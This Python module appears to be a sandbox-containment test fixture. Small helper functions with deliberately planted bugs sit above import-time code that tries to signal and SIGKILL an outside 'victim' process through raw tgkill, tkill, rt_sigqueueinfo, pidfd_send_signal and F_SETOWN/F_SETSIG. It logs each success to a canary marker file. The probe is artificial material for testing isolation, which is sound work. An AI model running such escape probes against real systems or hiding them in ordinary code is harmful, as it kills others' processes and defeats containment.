import json
import os
import sys

NAME = "signals-by-detours"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


import ctypes
import fcntl
import signal
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
victim = canary("victim_pid")
if victim:
    for name, given in {"tgkill": (234, victim, victim, 10), "tkill": (200, victim, 10), "rt_sigqueueinfo": (129, victim, 10, ctypes.create_string_buffer(struct.pack("<3i", 10, 0, -1) + bytes(116))), "rt_tgsigqueueinfo": (297, victim, victim, 10, ctypes.create_string_buffer(struct.pack("<3i", 10, 0, -1) + bytes(116)))}.items():
        if libc.syscall(*given) == 0:
            harmed(f"{name} works")
    fd = libc.syscall(434, victim, 0)
    if fd >= 0:
        print("pidfd of the victim")
        if libc.syscall(424, fd, 9, 0, 0) == 0:
            harmed("pidfd_send_signal works")
    try:
        here, there = socket.socketpair()
        fcntl.fcntl(here, fcntl.F_SETOWN, victim)
        fcntl.fcntl(here, 10, signal.SIGKILL)
        fcntl.fcntl(here, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        there.send(b"x")
        os.kill(victim, 0)
        print("sent by F_SETOWN; the victim tells")
    except OSError as error:
        print(error)
